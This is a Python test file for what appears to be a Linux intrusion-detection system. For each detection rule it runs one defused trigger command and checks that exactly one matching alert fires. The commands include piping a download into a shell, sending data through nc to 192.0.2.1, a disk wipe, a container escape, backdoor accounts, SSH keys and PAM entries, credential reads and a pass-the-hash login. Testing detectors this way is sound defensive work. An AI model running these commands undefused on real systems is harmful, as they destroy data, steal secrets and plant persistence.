"""Every one of our own rules finds a real act on this machine, and no other rule finds it.

The acts do no harm: what they would change, read or reach is not there. test_rules.py goes further with three of
the rules; the finer cases of all of them stand in tests/unit/server/rules.
"""

import re
import shutil
import tempfile
import unittest
from pathlib import Path

from .lib.acts import run
from .lib.post import Post
from .lib.state import alerts_by_rule
from .lib.waiting import wait_for

RULES = Path(__file__).parents[2] / "rules" / "linux"

# Acted out elsewhere: three rules in test_rules.py; the drill is the command line's own.
ELSEWHERE = {"decoded_text_into_shell", "reverse_shell", "watch_or_records_removed", "drill"}

# Rule -> a command. A text with a line feed is a script, run from a file: as if typed, no command line holds it.
ACTS = {
    "backups_removed": ("rm", "-rf", "/srv/{name}/backups"),
    "coin_miner": ("{folder}/app", "--algo", "rx/0", "-o", "192.0.2.1:443"),
    "container_left": ("sh", "-c", "exit 0; nsenter -t 1 -m sh"),
    "data_packed_in_hiding": ("tar", "czf", "{folder}/.d.tgz", "/etc/hostname"),
    "data_sent_out": "tar cf - /etc/hostname | {folder}/nc 192.0.2.1 4444\n",
    "data_server_starts_shell": ("{folder}/mysqld", "-c", "sh -c 'ls /etc/hostname'; :"),
    "disk_or_system_wiped": ("sh", "-c", "exit 0; dd if=/dev/zero of=/dev/sdx bs=1M"),
    "downloaded_text_into_shell": "curl -s http://127.0.0.1:9/a | sh\n",
    "fetched_made_executable_and_run": (
        "sh", "-c", "cd {folder}; curl -s http://127.0.0.1:9/x -o x; chmod +x x; ./x"),
    "file_time_forged": ("touch", "-r", "/bin/ls", "/tmp/.{name}"),
    "files_made_unreadable": ("bash", "-c", "for f in {folder}/no*; do openssl enc -aes-256-cbc -k x -in $f; done"),
    "foreign_kernel_module": ("sh", "-c", "exit 0; insmod ./x.ko"),
    "keys_or_screen_recorded": ("cat", "/dev/input/event99"),
    "library_put_before_all": ("env", "LD_PRELOAD=/dev/shm/{name}.so", "true"),
    "login_check_weakened": ("sed", "-i", "1i auth sufficient pam_permit.so", "/etc/pam.d/{name}"),
    "machine_surveyed": ("bash", "-c", "id; uname -a; cat /etc/passwd; ps"),
    "memory_of_program_dumped": ("dd", "if=/proc/1/mem", "of=/dev/null", "bs=1", "count=1"),
    "network_scanned": ("bash", "-c", "for p in 1 2 3; do (echo > /dev/tcp/127.0.0.1/$p) && echo $p; done"),
    "passwords_guessed": ("bash", "-c", "for p in a b; do sshpass -p $p true; done"),
    "program_in_hidden_place": ("python3", "-c", "import os\nf = os.memfd_create('x')\n"
                                "os.write(f, open('/bin/true', 'rb').read())\nos.execve(f, ['true'], {})"),
    "protection_switched_off": ("sh", "-c", "exit 0; ufw disable"),
    "remote_machine_set_up_by_ssh": (
        "ssh", "-o", "BatchMode=yes", "-p", "9", "127.0.0.1", "nohup /tmp/{name} &"),
    "second_root_account": ("useradd", "-o", "-u", "0", "no:name"),
    "secret_keys_gathered": ("cat", "{folder}/.aws/credentials"),
    "setuid_on_shell": ("chmod", "4755", "{folder}/app"),
    "shell_out_of_another_program": ("find", "/etc/hostname", "-exec", "sh", ";"),
    "ssh_key_added": ("sh", "-c", "echo key >> {folder}/.ssh/authorized_keys"),
    "stored_passwords_read": ("tail", "-c", "0", "/etc/shadow"),
    "sudo_rights_given": ("cp", "/dev/null", "/etc/sudoers.d/{name}/x"),
    "suspicious_cron_job": "curl -s http://127.0.0.1:9/a | crontab -u no:name -\n",
    "suspicious_start_program": ("sh", "-c", "echo /dev/shm/k >> /etc/init.d/{name}/x"),
    "system_name_borrowed": ("bash", "-c", "exec -a [kworker/9:9] true"),
    "tunnel_to_outside": ("ssh", "-o", "BatchMode=yes", "-p", "9", "-N", "-R", "2222:localhost:22", "127.0.0.1"),
    "web_server_starts_commands": ("{folder}/nginx", "-c", "sh -c whoami; :"),
    "windows_machines_entered": ("{folder}/app", "-hashes", ":31d6cfe0d16ae931b73c59d7e0c089c0", "a@192.0.2.1"),
}
PROGRAMS = {"app": "/bin/true", "nc": "/bin/true", "mysqld": "/bin/bash", "nginx": "/bin/bash"}


class Acted(unittest.TestCase):
    def setUp(self):
        self.folder = Path(tempfile.mkdtemp(prefix="tsujiban-acted-"))
        self.folder.chmod(0o755)
        self.addCleanup(shutil.rmtree, self.folder)
        self.addCleanup(Path(f"/tmp/.{self.folder.name}").unlink, missing_ok=True)
        for name, program in PROGRAMS.items():
            shutil.copy(program, self.folder / name)

    def test_every_rule_has_an_act(self):
        self.assertEqual(set(ACTS) | ELSEWHERE, {path.stem for path in RULES.glob("*.yml")})

    def test_acts(self):
        ids = {path.stem: re.search(r"^id: (\S+)", path.read_text(), re.M)[1] for path in RULES.glob("*.yml")}
        names = {number: name for name, number in ids.items()}
        with Post() as post:
            before = alerts_by_rule(post)
            for name, act in ACTS.items():
                with self.subTest(rule=name):
                    self._do(act)
                    wait_for("an alert", lambda: alerts_by_rule(post).get(ids[name], 0) > before.get(ids[name], 0))
                    post.settle()
                    after = alerts_by_rule(post)
                    self.assertEqual({names[k] for k in after if after[k] != before.get(k, 0)}, {name})
                before = alerts_by_rule(post)

    def _do(self, act):
        def fill(text):
            return text.replace("{folder}", str(self.folder)).replace("{name}", self.folder.name)

        if isinstance(act, str):
            script = self.folder / "script"
            script.write_text(fill(act))
            run("bash", str(script), cwd=self.folder)
        else:
            run(*map(fill, act), cwd=self.folder)


if __name__ == "__main__":
    unittest.main()
